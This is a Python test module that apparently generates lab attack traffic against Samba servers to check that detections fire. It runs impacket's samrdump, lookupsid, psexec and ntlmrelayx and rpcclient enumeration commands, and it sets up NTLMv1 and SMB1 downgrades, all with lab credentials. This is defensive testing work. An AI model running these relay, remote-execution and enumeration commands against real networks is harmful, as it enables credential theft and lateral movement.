"""impacket and Samba's own clients against real Sambas: what lists a server, runs programs there, and abuses log-ins."""

import pathlib
import subprocess
import sys
import time

import servers
import shares

ALICE = f"alice:{servers.PEOPLE['alice']}"


def tool(host, name, *words, **options):
    """One of impacket's programs."""
    return host.python(pathlib.Path(sys.executable).with_name(name), *words, check=False, **options)


def enumeration(lab):
    """Users, groups, sessions, shares and policies of six servers are listed by impacket and rpcclient."""
    servers.people(lab)
    addresses = [f"10.0.0.{20 + n}" for n in range(6)]
    server, client = lab.host("server", *addresses), lab.host("client", "10.0.0.5")
    servers.smbd(lab, server)
    lab.involve(*addresses)
    words = [
        "enumdomusers",
        "enumdomgroups",
        "enumalsgroups builtin",
        "querydominfo",
        "getdompwinfo",
        "lsaquery",
        "netshareenumall",
        "netsessenum",
        "srvinfo",
        "enumprivs",
        "lsaenumsid",
    ]
    with lab.recorded(), lab.expect("ad-enumeration/rpc-burst", of=client):
        for address in addresses:
            tool(client, "samrdump.py", f"{ALICE}@{address}")
            client.run("rpcclient", "-U", ALICE.replace(":", "%"), address, "-c", ";".join(words), check=False)
        tool(client, "lookupsid.py", f"{ALICE}@{addresses[0]}", 2000)


def psexec(lab):
    """impacket's psexec copies its program to ADMIN$ and asks for a service. Samba's service control refuses to create one."""
    servers.people(lab)
    server, client = lab.host("server", "10.0.0.20"), lab.host("client", "10.0.0.5")
    servers.smbd(lab, server, shares=("ADMIN$",))
    lab.involve(server)
    with lab.recorded(), lab.expect("rpc-remote-exec/admin-share", of=client):
        tool(client, "psexec.py", f"{ALICE}@{server.address}", "whoami")


def version1(lab):
    """A client answers by NTLM version 1, which the server allows; another chooses SMB 1."""
    servers.people(lab)
    old, older = lab.host("old", "10.0.0.20"), lab.host("older", "10.0.0.21")
    servers.smbd(lab, old, options=["ntlm auth = ntlmv1-permitted", "server smb encrypt = off"])
    servers.smbd(lab, older, options=["server min protocol = NT1", "server max protocol = NT1"])
    client = lab.host("client", "10.0.0.5")
    lab.involve(old, older, client)
    first, second = lab.expect("ntlm-downgrade/ntlmv1", of=client), lab.expect("ntlm-downgrade/smb1", of=older)
    with lab.recorded():
        with first:
            shares.smbclient(lab, client, old, ["ls"], "--option=client ntlmv2 auth = no")
        with second:
            shares.smbclient(lab, client, older, ["ls"], "--option=client min protocol = NT1")


def relay(lab):
    """ntlmrelayx takes somebody's log-in and gives it to another server, which lets it in."""
    servers.people(lab)
    server, victim, relayer = (
        lab.host("server", "10.0.0.20"),
        lab.host("victim", "10.0.0.6"),
        lab.host("relayer", "10.0.0.5"),
    )
    servers.smbd(lab, server)
    lab.involve(server, victim)
    program = pathlib.Path(sys.executable).with_name("ntlmrelayx.py")
    flags = [
        "-t",
        f"smb://{server.address}",
        "-smb2support",
        "-i",
        "--no-http-server",
        "--no-wcf-server",
        "--no-raw-server",
        "--no-rpc-server",
    ]
    relaying = relayer.start(sys.executable, "-B", program, *flags, stdin=subprocess.PIPE, cwd=lab.folder)
    relayer.wait_for(445)
    with lab.recorded():
        with lab.expect("ntlm-relay/challenge-reuse/used", of=relayer):
            victim.run(
                "smbclient", f"//{relayer.address}/files", "-U", ALICE.replace(":", "%"), "-c", "ls", check=False
            )
            time.sleep(2)
    relaying.terminate()
